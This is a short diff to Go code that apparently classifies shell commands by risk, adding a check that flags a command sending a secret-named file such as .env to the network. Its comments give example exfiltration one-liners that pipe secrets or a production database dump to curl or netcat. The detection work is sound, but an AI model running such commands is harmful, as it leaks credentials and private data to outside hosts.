@@ -348,6 +348,10 @@ func stdinClasses(cmd *Command, name string, roles role, in stdin) {
 			addClass(cmd, ClassRisk{Class: ClassCredential, Reason: name + " is told on its input to read the credential file " + f, Token: f})
 		}
 	}
+	if in.secret != "" && uploadsInput(name, cmd.Args) && !uploadsLocally(name, cmd.Args) {
+		// "cat .env | curl -d @- URL", "nc host 9 < .env"
+		addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends " + in.secret + ", whose name says it holds secrets, to the network", Token: in.secret})
+	}
 	if in.kind == stdinPipe && !in.files && uploadsInput(name, cmd.Args) && !uploadsLocally(name, cmd.Args) {
 		// "npm test 2>&1 | curl -d @- URL", "pg_dump prod | nc host 9000":
 		// what leaves is whatever the command before it printed, which no
